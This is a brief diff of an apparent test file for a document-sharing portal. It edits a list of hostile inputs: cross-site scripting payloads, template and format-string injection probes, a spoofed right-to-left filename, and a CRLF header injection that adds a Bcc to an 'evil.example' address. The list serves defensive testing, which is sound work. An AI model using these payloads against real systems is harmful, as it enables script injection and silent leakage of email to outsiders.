@@ -27,7 +27,8 @@ SHARE = Share(
 RECIPIENT = Recipient("recipient", "share", "ben@partner.example")
 LETTERS = Letters.from_config(Config.from_env(environment(PORTAL_ORGANISATION_NAME="Marlow Instruments")))
 NASTY = [
-    "<script>alert(1)</script>", "{{7*7}}", "{% raw %}", "{0.__class__}", "%(name)s %s", "a\r\nBcc: x@e.example",
+    "<script>alert(1)</script>", "{{7*7}}", "{% raw %}", "{0.__class__}", "%(name)s %s",
+    "a\r\nBcc: x@evil.example",
     '"><img src=x onerror=alert(1)>', "\x1b[31m", "\u202egpj.exe", "\ufeff\x00",
 ]  # fmt: skip
 
